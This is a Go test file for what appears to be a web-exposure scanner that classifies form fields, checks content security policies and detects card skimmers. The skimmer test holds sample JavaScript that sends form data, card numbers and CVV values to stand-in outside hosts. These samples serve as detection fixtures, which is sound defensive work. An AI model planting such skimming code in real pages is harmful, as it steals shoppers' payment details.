package page

import (
	"net/url"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/tsutsumi-dev/tsutsumi/internal/exposure/browse"
)

func parsed(t *testing.T, body string) *doc {
	t.Helper()
	a := &browse.Answer{Body: []byte(body), Header: map[string][]string{"Content-Type": {"text/html; charset=utf-8"}}}
	a.URL = &url.URL{Scheme: "https", Host: "shop.example.jp", Path: "/f"}
	d, err := parse(a)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// Fields are known by name, type, autofill and by what stands at them, in three languages.
func TestFieldsAreRecognised(t *testing.T) {
	for in, want := range map[string]string{
		`<input name=email>`:                                               "EMAIL_ADDRESS",
		`<input name=x type=email>`:                                        "EMAIL_ADDRESS",
		`<input name=tel1 type=tel>`:                                       "PHONE_NUMBER",
		`<input name=c type=tel placeholder="カード番号">`:                      "CREDIT_CARD_NUMBER",
		`<input name=f3 autocomplete="section-a shipping street-address">`: "STREET_ADDRESS",
		`<input name=f3 autocomplete="cc-number">`:                         "CREDIT_CARD_NUMBER",
		`<input name=card_cvc>`:                                            "CREDIT_CARD_SECURITY_CODE",
		`<input name=pw type=password>`:                                    "PASSWORD",
		`<label for=k>お名前（フリガナ）</label><input id=k name=f1>`:               "PERSON_NAME_KANA",
		`<label>生年月日 <input name=f2></label>`:                              "DATE_OF_BIRTH",
		`<dl><dt>ご住所 <span>必須</span><dd><input name=f9></dl>`:              "STREET_ADDRESS",
		`<table><tr><td>マイナンバー</td><td><input name=f7></td></table>`:       "JAPAN_INDIVIDUAL_NUMBER",
		`<label>手机号<input name=f4></label>`:                                "PHONE_NUMBER",
		`<label>身份证号<input name=f5></label>`:                               "CHINA_RESIDENT_ID_NUMBER",
		`<label>姓名<input name=f6></label>`:                                 "PERSON_NAME",
		`<input name=f aria-label="Date of birth">`:                        "DATE_OF_BIRTH",
		`<label>住所<select name=a><option>東京都</select></label>`:             "STREET_ADDRESS",
		`<input name=q placeholder=氏名>`:                                    "",
		`<input type=search name=name>`:                                    "",
		`<input type=checkbox name=email_ok>`:                              "",
		`<input type=hidden name=email>`:                                   "",
		`<input type=submit name=name>`:                                    "",
		`<input name=size>`:                                                "",
		`<input name=quantity type=number>`:                                "",
		`<input name=order_no>`:                                            "",
		`<input name=coupon>`:                                              "",
	} {
		var got []string
		for _, f := range parsed(t, in).forms {
			for _, x := range f.fields {
				got = append(got, x.kind.String())
			}
		}
		if strings.Join(got, ",") != want {
			t.Errorf("%s: %v, want %s", in, got, want)
		}
	}
}

func TestRoles(t *testing.T) {
	for _, c := range []struct {
		body, words string
		want        roles
	}{
		{loginForm, "", roles{login: true}},
		{cardForm, "", roles{pay: true, contact: true}},
		{`<form method=post><input name=name><input name=email><input type=password name=p></form>`, "", roles{register: true}},
		{`<form method=post><input name=email><input type=password name=p></form>`, "", roles{login: true}},
		{`<form method=post><input name=a type=password><input name=b type=password></form>`, "", roles{register: true}},
		{`<form method=post><label>お名前<input name=a></label><textarea name=b></textarea></form>`, "", roles{contact: true}},
		{`<div id=app></div><script src="/app.js"></script>`, "ログイン /app", roles{login: true}},
		{`<div id=app></div>`, "ログイン", roles{}},
		{`<form action="/s"><input name=q></form><script>1</script>`, "/news", roles{}},
	} {
		p := &page{doc: parsed(t, c.body)}
		if d := cmp.Diff(c.want, rolesOf(p, c.words), cmp.AllowUnexported(roles{})); d != "" {
			t.Errorf("%s: %s", c.body, d)
		}
	}
}

func TestSkimmerTraits(t *testing.T) {
	own := []string{"example.jp"}
	for name, c := range map[string]struct{ body, want string }{
		"a skimmer": {`document.getElementById("pay").addEventListener("mouseup",function(){var d=jQuery("#form").serializeArray();jQuery.ajax({type:"POST",url:"https://info.example.net/gate",data:JSON.stringify(d)})})`, "info.example.net"},
		"by image":  {`f.addEventListener('submit',()=>{let n=document.querySelector('[name=cardnumber]').value;new Image().src='//pix.example.org/p?d='+btoa(n)})`, "pix.example.org"},
		"by beacon": {`i.onkeyup=e=>{k[cvv]=i.value;navigator.sendBeacon("https://a.example.net/b",k)}`, "a.example.net"},
		"to itself": {`f.addEventListener('submit',()=>{fetch('https://api.example.jp/pay',{body:new FormData(f)})})`, ""},
		"relative":  {`f.addEventListener('submit',()=>{fetch('/pay',{body:new FormData(f)})})`, ""},
		"no fields": {`a.addEventListener('click',()=>{fetch('https://stats.example.net/hit')})`, ""},
		"far apart": {`f.addEventListener('submit',x);` + strings.Repeat("/* */", 4000) + `fetch('https://stats.example.net/hit')` + strings.Repeat("/* */", 4000) + `new FormData(f)`, ""},
		"a comment": {`// see https://example.net/ for card number`, ""},
	} {
		if to, _ := skims(c.body, own...); to != c.want {
			t.Errorf("%s: sends to %q, want %q", name, to, c.want)
		}
	}
}

func TestPolicies(t *testing.T) {
	for in, want := range map[string]string{
		"default-src 'self'": "",
		"default-src 'none'; script-src 'self' https://js.example": "",
		"script-src *":                                  "script-src *",
		"default-src https:":                            "default-src https:",
		"script-src 'self' 'unsafe-inline'":             "script-src 'unsafe-inline'",
		"script-src 'self' 'unsafe-inline' 'nonce-abc'": "",
		"script-src 'strict-dynamic' 'nonce-a' https:":  "",
		"upgrade-insecure-requests":                     "script-src",
		"frame-ancestors 'none', script-src 'self'":     "",
		"SCRIPT-SRC 'SELF'; script-src *":               "",
	} {
		if got := weakness([]string{in}); got != want {
			t.Errorf("%s: %q, want %q", in, got, want)
		}
	}
}

func FuzzParse(f *testing.F) {
	for _, s := range []string{loginForm, cardForm, `<base href="//x"><a href="\\y">`, `<script>`, "<table><td><input>"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, body string) {
		d := parsed(t, body)
		if len(d.forms) > maxForms+1 || len(d.links) > maxLinks || len(d.scripts) > maxScripts {
			t.Error("beyond the bounds")
		}
	})
}

// A page whose every input stands beside all others is read soon.
func TestManyInputs(t *testing.T) {
	for _, in := range []string{"<label>" + strings.Repeat("<input>", 100_000), "<dl>" + strings.Repeat("<dd><input>", 100_000)} {
		if d := parsed(t, in); d.inputs <= maxInputs {
			t.Errorf("%d inputs were looked at", d.inputs)
		}
	}
	if d := parsed(t, "<label>"+strings.Repeat("<i></i>", 100)+"メールアドレス<input name=x></label>"); len(d.forms) != 1 || len(d.forms[0].fields) != 1 {
		t.Errorf("%+v", d.forms)
	}
}
